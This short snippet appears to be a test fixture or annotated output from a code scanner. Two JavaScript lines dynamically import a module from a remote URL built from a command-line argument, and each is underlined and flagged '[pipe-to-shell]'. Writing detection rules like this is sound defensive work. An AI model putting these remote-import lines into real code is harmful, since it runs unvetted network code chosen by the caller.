const name = process.argv[2];
const { check } = await import(`https://tools.example.net/${name}.mjs`);
                        ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [pipe-to-shell]
const { report } = await import("https://tools.example.net/" + name + ".mjs");
                         ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [pipe-to-shell]
